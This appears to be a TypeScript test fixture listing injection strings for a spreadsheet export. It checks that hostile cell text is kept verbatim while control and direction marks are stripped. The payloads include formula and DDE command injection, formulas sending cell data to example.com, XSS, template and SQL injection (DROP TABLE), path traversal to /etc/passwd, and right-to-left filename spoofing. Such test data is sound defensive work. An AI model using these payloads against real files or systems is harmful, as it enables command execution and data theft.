/** A text somebody may put into a sheet, and what of it is kept: control and direction marks are cleaned away. */
export interface InjectionText {
  readonly text: string;
  readonly kept: string;
  /** What a text file keeps, where an apostrophe at the beginning only says that text follows. */
  readonly keptOfTextFile?: string;
  /** A character no cell of an .xlsx can hold. */
  readonly isForTextOnly?: true;
}

const plainTexts = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '=SUM(A1:A9)',
  '=HYPERLINK("http://example.com/?x="&A1,"点这里")',
  '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=WEBSERVICE("http://example.com/"&A1)',
  '+1+1',
  "+cmd|' /C notepad'!'A1'",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '"=1+1"',
  '""=1+1',
  '";=1+1',
  ',=1+1,',
  '=1+1\n=2+2',
  '甲\n=1+1',
  '<script>globalThis.owned = true</script>',
  '<img src=x onerror="globalThis.owned=true">',
  '"><svg onload=globalThis.owned=true>',
  'javascript:globalThis.owned=true',
  '${globalThis.owned = true}',
  '{{constructor.constructor("globalThis.owned=true")()}}',
  "' OR 1=1 --",
  "'); DROP TABLE accounts; --",
  '%s%n%x',
  '../../../etc/passwd',
  '{"__proto__":{"owned":true}}',
];

/** Texts that programs have been known to calculate, run, glue into a query or draw as something else. */
export const injectionTexts: readonly InjectionText[] = [
  ...plainTexts.map((text) => ({ text, kept: text })),
  { text: "'=1+1", kept: "'=1+1", keptOfTextFile: '=1+1' },
  { text: '\t=1+1', kept: '=1+1' },
  { text: '\r=1+1', kept: '=1+1' },
  { text: '\n=1+1', kept: '=1+1' },
  { text: ' =1+1', kept: '=1+1' },
  { text: '\u00a0=1+1', kept: '=1+1' },
  { text: '\u202e=1+1', kept: '=1+1' },
  { text: '甲\u202eexe.piz', kept: '甲exe.piz' },
  { text: '\u200b@x', kept: '@x' },
  { text: '\u0000=1+1', kept: '=1+1', isForTextOnly: true },
  { text: '甲\u0000乙', kept: '甲乙', isForTextOnly: true },
  { text: '甲\u0007\u001b[31m乙', kept: '甲[31m乙', isForTextOnly: true },
];
